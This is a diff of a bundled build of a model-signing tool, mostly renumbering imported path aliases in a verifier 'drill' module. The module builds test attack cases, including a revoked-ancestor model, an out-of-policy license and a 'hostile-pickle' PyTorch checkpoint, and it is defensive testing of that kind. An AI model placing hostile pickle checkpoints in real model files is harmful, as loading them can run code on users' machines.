+          const m2 = path21.join(ctx.tmp, "revoked-ancestor");
           await writeModel(m2, 31);
           const lineage = { parents: [{ name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest, bundleDigest: bundleDigestOf(parentBundle), relation: "finetune" }] };
           await signDrillModel(m2, ctx.signer, { name: "drill-finetune", license: ctx.licenses.allowed, extra: { lineage } });
@@ -61022,7 +61011,7 @@ var init_attacks = __esm({
         async build(ctx) {
           const lic = ctx.licenses.outside;
           if (lic === void 0) throw new AttackNotApplicable("the policy allows every license the drill tried (it has no license rule that refuses one)");
-          const m2 = path22.join(ctx.tmp, "license-outside-policy");
+          const m2 = path21.join(ctx.tmp, "license-outside-policy");
           await writeModel(m2, 41);
           await signDrillModel(m2, ctx.signer, { license: lic });
           return { model: m2 };
@@ -61034,9 +61023,9 @@ var init_attacks = __esm({
         // No feature need: a set-up without scanning (policy formats) accepts it, and that is MISSED.
         needs: ["trusted-signature"],
         async build(ctx) {
-          const m2 = path22.join(ctx.tmp, "hostile-pickle");
+          const m2 = path21.join(ctx.tmp, "hostile-pickle");
           await writeModel(m2, 51);
-          await writeFile4(path22.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
+          await writeFile4(path21.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
           await signDrillModel(m2, ctx.signer, { license: ctx.licenses.allowed });
           return { model: m2 };
         }
@@ -61048,13 +61037,13 @@ var init_attacks = __esm({
 // src/drill/run.ts
 import { cp, mkdir as mkdir5, mkdtemp as mkdtemp2, rm as rm3 } from "node:fs/promises";
 import os6 from "node:os";
-import path23 from "node:path";
+import path22 from "node:path";
 async function runDrill(opts) {
-  const tmp = await mkdtemp2(path23.join(os6.tmpdir(), "modelsign-drill-"));
+  const tmp = await mkdtemp2(path22.join(os6.tmpdir(), "modelsign-drill-"));
   try {
-    const base2 = path23.join(tmp, "base-model");
+    const base2 = path22.join(tmp, "base-model");
     await writeModel(base2, 1);
-    const store = path23.join(tmp, "lineage-store");
+    const store = path22.join(tmp, "lineage-store");
     await mkdir5(store);
     const defaultSetup = { storeDir: store };
     let baseline;
@@ -61078,7 +61067,7 @@ async function runDrill(opts) {
       ...opts.signer ? { signer: opts.signer } : {},
       base: base2,
       copyBase: async (name2) => {
-        const dest = path23.join(tmp, name2);
+        const dest = path22.join(tmp, name2);
         await cp(base2, dest, { recursive: true });
         return dest;
       },
@@ -61144,7 +61133,7 @@ var init_run = __esm({
 });
 
 // src/drill/verifier.ts
-import path24 from "node:path";
+import path23 from "node:path";
 async function pickLicenses(policy, purpose) {
   const rule = policy?.rules[purpose];
   if (!policy || policy.license === void 0 || !rule) return { allowed: DEFAULT_DRILL_LICENSE };
@@ -61173,7 +61162,7 @@ async function drillVerifier(cfg) {
   } else {
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
     const file = policy.file;
-    trust = await policyTrust2(policy.trust, (f2) => path24.relative(path24.dirname(file), f2));
+    trust = await policyTrust2(policy.trust, (f2) => path23.relative(path23.dirname(file), f2));
     trustDesc = `trust section of ${cfg.policy}`;
   }
   if (trust.length === 0) throw usage("MISSING_OPTION", `drill needs something to trust: the policy ${cfg.policy} trusts nobody, so give --key PUBLIC_KEY`);
@@ -63484,7 +63473,7 @@ init_io();
 init_report();
 import { mkdtempSync, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
 import os7 from "node:os";
-import path25 from "node:path";
+import path24 from "node:path";
 
 // src/cli/verify-key.ts
 init_io();
@@ -63801,28 +63790,28 @@ var podPlugin = {
 
 // src/cli/verify-audit.ts
 init_errors();
-import path19 from "node:path";
+import path18 from "node:path";
 function str2(v2) {
   return typeof v2 === "string" ? v2 : null;
 }
 function base(model, flags) {
   return {
     time: (/* @__PURE__ */ new Date()).toISOString(),
-    model: path19.resolve(model),
-    signature: str2(flags.signature) ? path19.resolve(flags.signature) : null,
+    model: path18.resolve(model),
+    signature: str2(flags.signature) ? path18.resolve(flags.signature) : null,
     rootDigest: null,
     name: null,
     version: null,
     signer: null,
     // Flags other plugins own; recorded when they are present.
-    policy: str2(flags.policy) ? path19.resolve(flags.policy) : null,
+    policy: str2(flags.policy) ? path18.resolve(flags.policy) : null,
     purpose: str2(flags.purpose)
   };
 }
 function decisionFromResult(flags, r) {
   return {
     ...base(r.model, flags),
-    signature: path19.resolve(r.signature),
+    signature: path18.resolve(r.signature),
     rootDigest: r.rootDigest ? `sha256:${r.rootDigest}` : null,
     name: r.metadata?.name ?? r.subjectName ?? null,
     version: r.metadata?.version ?? null,
@@ -64025,9 +64014,9 @@ function keyPaths(r, cleanup, secret) {
   const raw = r.input("key");
   if (!raw.includes("-----BEGIN")) return r.listInput("key");
   if (secret) r.mask(raw);
-  const dir = mkdtempSync(path25.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
+  const dir = mkdtempSync(path24.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
   cleanup.dirs.push(dir);
-  const file = path25.join(dir, secret ? "signing.key" : "trusted.pub");
+  const file = path24.join(dir, secret ? "signing.key" : "trusted.pub");
   writeFileSync2(file, raw.endsWith("\n") ? raw : `${raw}
 `, { mode: 384 });
   return [file];
